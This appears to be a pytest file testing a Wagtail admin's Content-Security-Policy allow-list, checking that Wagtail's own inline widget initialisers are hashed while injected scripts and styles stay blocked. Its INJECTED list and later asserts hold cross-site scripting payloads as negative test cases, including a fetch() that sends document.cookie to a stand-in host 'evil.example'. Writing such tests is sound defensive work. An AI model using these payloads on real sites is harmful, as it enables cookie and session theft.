"""Which inline scripts the admin may run: Wagtail's widget initialisers with data, nothing else."""

import pytest

from portal.csp import allowed_inline_script_hashes, is_known_initialiser, script_hash

WAGTAIL_INITIALISERS = [
    'initDateChooser("id_date", {"dayOfWeekStart": 1, "format": "Y-m-d"});',
    'initDateTimeChooser("id_go_live_at", {"dayOfWeekStart": 1, "format": "Y-m-d H:i", "formatTime": "H:i"});',
    'new PageChooser("id_contact_page", {"modelNames": ["wagtailcore.page"], "canChooseRoot": false, "userPerms": null, "modalUrl": "/admin/choose-page/", "parentId": 3});',
    'new ImageChooser("id_logo", {"modalUrl": "/admin/images/chooser/"});',
    'createTaskChooser("id_task");',
    '\n        (function() {\n            var panel = new InlinePanel(JSON.parse("{\\u0022formsetPrefix\\u0022: \\u0022id_items\\u0022}"));\n        })();\n    ',
]

INJECTED = [
    "alert(document.cookie)",
    'initDateChooser("x", {});alert(1)',
    'initDateChooser("x", {}); fetch("https://evil.example/?" + document.cookie);',
    'new PageChooser("id", {"a": 1}) + alert(1);',
    'initDateChooser("x", alert(1));',
    'evil("x", {});',
    '(function() { var panel = new InlinePanel(JSON.parse("x")); alert(1); })();',
]


@pytest.mark.parametrize("script", WAGTAIL_INITIALISERS)
def test_wagtail_widget_initialisers_are_allowed(script):
    assert is_known_initialiser(script)


@pytest.mark.parametrize("script", INJECTED)
def test_anything_else_stays_blocked(script):
    assert not is_known_initialiser(script)


def test_only_the_allowed_scripts_of_a_page_get_a_hash():
    html = "".join(f"<script>{body}</script>" for body in [WAGTAIL_INITIALISERS[0], INJECTED[0]])
    assert allowed_inline_script_hashes(html) == [script_hash(WAGTAIL_INITIALISERS[0])]


@pytest.mark.django_db
def test_an_admin_page_with_a_date_picker_allows_exactly_its_initialisers(client):
    from django.contrib.auth.models import User

    client.force_login(User.objects.create_superuser("szef", "s@gops.example.pl", "haslo-szefa-1234"))
    response = client.get("/admin/snippets/intake/closedday/add/")
    html = response.content.decode()
    policy = response["Content-Security-Policy"]
    hashes = allowed_inline_script_hashes(html)
    assert hashes and all(h in policy for h in hashes)
    assert "'unsafe-inline'" not in policy


CHOOSER_URLS = """
        if (typeof window.chooserUrls === "undefined") {
            window.chooserUrls = {
                imageChooser: "/admin/images/chooser/",
                documentChooser: "/admin/documents/chooser/",
                pageChooser: "/admin/choose-page/",
            }
        }
    """


def test_wagtail_localizes_own_inline_blocks_are_allowed_and_nothing_dressed_as_them():
    from portal.csp import allowed_inline_style_hashes

    assert is_known_initialiser(CHOOSER_URLS)
    assert not is_known_initialiser(CHOOSER_URLS.replace('"/admin/images/chooser/"', '"/x/" + alert(1)'))
    assert not is_known_initialiser(CHOOSER_URLS + "alert(1);")
    style = "\n .publish-translations-field { margin-top: 30px; margin-bottom: 20px; }\n"
    style += ".publish-translations-field > p.help { margin-top: 10px; }\n"
    style += ".publish-translations-label { float: unset; font-weight: normal; }\n"
    assert allowed_inline_style_hashes(f"<style>{style}</style>") == [script_hash(style)]
    assert allowed_inline_style_hashes("<style>body { background: url(https://evil.example/) }</style>") == []


@pytest.mark.django_db
def test_only_the_translation_editor_may_use_inline_styles(client, home_page):
    from django.contrib.auth.models import User
    from wagtail.models import Locale
    from wagtail_localize.models import Translation, TranslationSource

    from home.tests.factories import InformationPageFactory

    page = InformationPageFactory(parent=home_page, title="Prawa dziecka", slug="prawa-dziecka")
    ukrainian = Locale.objects.get(language_code="uk")
    for original in (home_page, page):
        source, _created = TranslationSource.get_or_create_from_instance(original)
        Translation.objects.create(source=source, target_locale=ukrainian).save_target()
    client.force_login(User.objects.create_superuser("szef", "s@gops.example.pl", "haslo-szefa-1234"))

    editor = client.get(f"/admin/pages/{page.get_translation(ukrainian).pk}/edit/")
    policy = editor["Content-Security-Policy"]
    assert 'class="js-translation-editor"' in editor.content.decode()
    styles = next(part for part in policy.split(";") if part.strip().startswith("style-src"))
    scripts = next(part for part in policy.split(";") if part.strip().startswith("script-src"))
    assert "'unsafe-inline'" in styles and "'unsafe-inline'" not in scripts
    hashes = allowed_inline_script_hashes(editor.content.decode())  # the editor's chooser addresses
    assert hashes and all(h in policy for h in hashes)

    original = client.get(f"/admin/pages/{page.pk}/edit/")
    assert "'unsafe-inline'" not in original["Content-Security-Policy"]
